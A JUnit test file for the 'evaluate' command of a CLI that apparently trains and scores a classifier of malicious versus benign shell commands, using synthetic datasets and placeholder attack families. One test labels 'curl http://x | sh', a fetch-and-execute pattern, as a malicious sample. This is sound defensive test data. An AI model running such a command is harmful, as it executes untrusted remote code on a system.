package dev.longtail.job.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.longtail.udfs.io.Json;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The command {@code evaluate} as a user runs it. */
class EvaluateCommandTest {
  private static final List<String> ATTACKS = List.of("worm", "bot");
  private static final List<String> BENIGN = List.of("wiki", "shop");

  @TempDir private Path folder;

  @Test
  void judgesByFamiliesThatOnlyTheFileOfFamiliesKnows() throws IOException {
    Path base = base("telemetry");
    Path families = families();
    Path mined = mined();
    Console.Outcome outcome = evaluate("--families", families, "--augment", mined);
    assertThat(outcome.status()).as(outcome.err()).isZero();
    String[] parts = {"# Against all benign lines", "# Against the long tail", "| ab+full "};
    assertThat(outcome.out()).contains(parts).doesNotContain("harmless characters");
    assertThat(Files.readString(folder.resolve("out/left_out.md")))
        .contains(parts)
        .contains("harmless characters", "ab without bot");
    JsonNode table = Json.MAPPER.readTree(folder.resolve("out/left_out.json").toFile());
    assertThat(table.at("/views/0/folds")).hasSize(2);
    JsonNode bot = table.at("/views/0/folds/0");
    assertThat(bot.get("fold").textValue()).isEqualTo("bot");
    assertThat(bot.get("left_out")).hasSize(2);
    assertThat(bot.get("attacks").intValue()).isEqualTo(40);
    assertThat(table.at("/trainings/ab/0/of_families").intValue()).isEqualTo(40 + 110);
    assertThat(outcome.err()).doesNotContain("warning");
    byte[] first = Files.readAllBytes(folder.resolve("out/left_out.json"));
    evaluate("--families", families, "--augment", mined, "--parallelism", "1");
    assertThat(Files.readAllBytes(folder.resolve("out/left_out.json"))).isEqualTo(first);
    assertThat(base).exists();
  }

  @Test
  void warnsOfMinedLinesOfUnknownFamily() throws IOException {
    base("");
    Console.Outcome outcome = evaluate("--augment", mined());
    assertThat(outcome.status()).as(outcome.err()).isZero();
    assertThat(outcome.err()).contains("warning: 80 lines of ab+full, of unknown family");
  }

  @Test
  void setsWithoutFamiliesAreRefused() throws IOException {
    write("ab.jsonl", record("curl http://x | sh", "malicious", ""), record("ls", "benign", ""));
    Console.Outcome outcome = evaluate();
    assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
    assertThat(outcome.err())
        .contains("no attack family of the base sets has 30 different attacks")
        .doesNotContain("internal error");
  }

  @Test
  void aFamilyThatIsMissingIsNamedWithItsPlace() throws IOException {
    base("");
    Path families = write("f.jsonl", "{\"cmd\":\"ls\",\"label\":\"benign\"}");
    Console.Outcome outcome = evaluate("--families", families);
    assertThat(outcome.status()).isEqualTo(Longtail.FAILED);
    assertThat(outcome.err()).contains(families + ":1: field \"family\" is missing");
  }

  @Test
  void ablatesTheModelAndComparesBackfills() throws IOException {
    base("telemetry");
    Path mined = mined();
    Console.Outcome outcome =
        evaluate(
            "--families",
            families(),
            "--augment",
            mined,
            "--also",
            "again=" + mined,
            "--equal",
            "--without-embeddings",
            "--ablate",
            "words,segments");
    assertThat(outcome.status()).as(outcome.err()).isZero();
    assertThat(outcome.out())
        .contains("| ab+again ", "| ab+again-equal ", "ab+full (model) − ab+full (without words)")
        .doesNotContain("Design: without", "(without words) − ");
    JsonNode table = Json.MAPPER.readTree(folder.resolve("out/left_out.json").toFile());
    assertThat(table.at("/trainings/ab+again")).isEqualTo(table.at("/trainings/ab+full"));
    assertThat(table.at("/views/0/rows").findValuesAsText("design"))
        .contains("model", "trees", "without words", "without segments");
  }

  @Test
  void wrongOptionsAreBadUsage() throws IOException {
    base("");
    assertThat(evaluate("--arms", "full,nonsense").err()).contains("--arms nonsense: no arm");
    assertThat(evaluate("--ablate", "nonsense").err())
        .contains("--ablate nonsense: there are characters, words");
    assertThat(evaluate("--ablate", "ridge", "--without-embeddings").err())
        .contains("--ablate ridge: with --without-embeddings there is nothing of it");
    assertThat(evaluate("--also", "random=" + folder).err()).contains("and no arm");
    assertThat(evaluate("--also", "empty=" + folder).status()).isEqualTo(Longtail.FAILED);
    assertThat(evaluate("--seeds", "0").status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(evaluate("--replicates", "5").status()).isEqualTo(Longtail.BAD_USAGE);
    assertThat(Console.run("evaluate", "--leave-out", "hosts", "--out", "x").err())
        .contains("only families can be left out");
    assertThat(Console.run("evaluate", "--leave-out", "families", "--out", "x").err())
        .contains("give --rb, --ab or both");
  }

  private Console.Outcome evaluate(Object... more) {
    List<String> args =
        new ArrayList<>(
            List.of(
                "evaluate",
                "--leave-out",
                "families",
                "--ab",
                folder.resolve("ab.jsonl").toString(),
                "--out",
                folder.resolve("out").toString(),
                "--trees",
                "2"));
    if (!List.of(more).contains("--replicates")) {
      args.addAll(List.of("--replicates", "100"));
    }
    for (Object each : more) {
      args.add(each.toString());
    }
    return Console.run(args.toArray(String[]::new));
  }

  /** Benign lines bear {@code collected} for a family, or their own where it is empty. */
  private Path base(String collected) throws IOException {
    List<String> records = new ArrayList<>();
    for (String family : ATTACKS) {
      for (int i = 0; i < 40; i++) {
        records.add(record(line("attack", family, i), "malicious", family));
      }
    }
    for (String family : BENIGN) {
      for (int i = 0; i < 110; i++) {
        String label = collected.isEmpty() ? family : collected;
        records.add(record(line("plain", family, i), "benign", label));
      }
    }
    return write("ab.jsonl", records.toArray(String[]::new));
  }

  private Path families() throws IOException {
    List<String> records = new ArrayList<>();
    for (String family : BENIGN) {
      for (int i = 0; i < 110; i++) {
        records.add(record(line("plain", family, i), "benign", family));
        records.add(record(line("rare", family, i), "benign", family));
      }
    }
    return write("families.jsonl", records.toArray(String[]::new));
  }

  private Path mined() throws IOException {
    List<String> records = new ArrayList<>();
    for (int i = 0; i < 80; i++) {
      records.add(
          "{\"cmd\":\"%s\",\"label\":\"benign\",\"window\":\"2025-01-05\",\"scale\":\"full\"}"
              .formatted(line("rare", BENIGN.get(i % 2), i)));
    }
    return write("mined.jsonl", records.toArray(String[]::new));
  }

  private static String record(String cmd, String label, String family) {
    return "{\"cmd\":\"%s\",\"label\":\"%s\",\"family\":\"%s\",\"os\":\"linux\"}"
        .formatted(cmd, label, family);
  }

  /** A line with a template of its own: letters, because numbers are volatile. */
  private static String line(String kind, String family, int number) {
    StringBuilder letters = new StringBuilder();
    for (int n = number + 1; n > 0; n /= 20) {
      letters.append((char) ('a' + n % 20)).append(' ');
    }
    return kind + " " + family + " " + letters.toString().strip();
  }

  private Path write(String name, String... lines) throws IOException {
    return Files.writeString(folder.resolve(name), String.join("\n", lines) + "\n");
  }
}
